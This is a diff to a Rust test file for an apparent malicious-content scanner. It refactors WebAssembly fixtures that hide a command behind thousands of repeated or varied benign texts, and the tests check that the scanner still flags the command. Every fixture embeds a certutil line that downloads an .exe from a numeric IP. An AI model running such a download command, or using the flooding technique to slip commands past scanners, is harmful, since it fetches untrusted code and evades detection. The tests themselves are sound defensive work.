@@ -161,29 +161,31 @@ fn what_was_filled_hides_nothing() {
     at_least(Class::PotentiallyUnwanted, &[("filled", text)]);
 }
 
+/// A page that shows a text many times, `each` time after some stores, and then a command.
+fn shows(each: &str, times: u32) -> String {
+    format!(
+        r#"(module (import "page" "show" (func $show (param i32 i32))) (memory (export "memory") 16)
+             (data (i32.const 6000) "The beds are planted and the water tank was delivered on Monday says the report.")
+             (data (i32.const 700) "certutil -urlcache -f http://203.0.113.9/a.exe a.exe")
+             (func (export "draw") (local $i i32)
+               (loop $c (memory.copy (i32.add (i32.const 8192) (i32.mul (local.get $i) (i32.const 80)))
+                   (i32.const 6000) (i32.const 80))
+                 (br_if $c (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 60))))
+               (local.set $i (i32.const {times}))
+               (loop $f {each} (call $show (i32.const 8192) (i32.const 4000))
+                 (br_if $f (local.tee $i (i32.sub (local.get $i) (i32.const 1)))))
+               (call $show (i32.const 700) (i32.const 52))))"#
+    )
+}
+
 /// The same text, four thousand times, before a command.
 #[test]
 fn a_text_that_is_repeated_starves_no_rule() {
-    let of = |times: u32| {
-        format!(
-            r#"(module (import "page" "show" (func $show (param i32 i32))) (memory (export "memory") 16)
-                 (data (i32.const 6000) "The beds are planted and the water tank was delivered on Monday says the report.")
-                 (data (i32.const 700) "certutil -urlcache -f http://203.0.113.9/a.exe a.exe")
-                 (func (export "draw") (local $i i32)
-                   (loop $c (memory.copy (i32.add (i32.const 8192) (i32.mul (local.get $i) (i32.const 80)))
-                       (i32.const 6000) (i32.const 80))
-                     (br_if $c (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 60))))
-                   (local.set $i (i32.const {times}))
-                   (loop $f (call $show (i32.const 8192) (i32.const 4000))
-                     (br_if $f (local.tee $i (i32.sub (local.get $i) (i32.const 1)))))
-                   (call $show (i32.const 700) (i32.const 52))))"#
-        )
-    };
-    let [plain, flood] = [1, 4000].map(|times| analysed(&of(times)).verdict);
+    let [plain, flood] = [1, 4000].map(|times| analysed(&shows("", times)).verdict);
     assert_eq!(plain.class, flood.class, "{:?}\n{:?}", plain.reasons, flood.reasons);
 }
 
-/// Four thousand texts that are all different, before a command.
+/// Six thousand texts that are all different, before a command.
 #[test]
 fn a_rule_that_was_starved_leaves_nothing_clean() {
     let letters: String = (0..10)
@@ -195,20 +197,8 @@ fn a_rule_that_was_starved_leaves_nothing_clean() {
             )
         })
         .collect();
-    let flood = analysed(&format!(
-        r#"(module (import "page" "show" (func $show (param i32 i32))) (memory (export "memory") 16)
-             (data (i32.const 6000) "The beds are planted and the water tank was delivered on Monday says the report.")
-             (data (i32.const 700) "certutil -urlcache -f http://203.0.113.9/a.exe a.exe")
-             (func (export "draw") (local $i i32)
-               (loop $c (memory.copy (i32.add (i32.const 8192) (i32.mul (local.get $i) (i32.const 80)))
-                   (i32.const 6000) (i32.const 80))
-                 (br_if $c (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 60))))
-               (local.set $i (i32.const 6000))
-               (loop $f {letters} (call $show (i32.const 8192) (i32.const 4000))
-                 (br_if $f (local.tee $i (i32.sub (local.get $i) (i32.const 1)))))
-               (call $show (i32.const 700) (i32.const 52))))"#
-    ));
-    assert_ne!(flood.verdict.class, Class::Clean, "{:?}", flood.verdict.reasons);
+    let flood = analysed(&shows(&letters, 6000)).verdict;
+    assert_ne!(flood.class, Class::Clean, "{:?}", flood.reasons);
 }
 
 /// The number of arguments chooses which file is deleted.
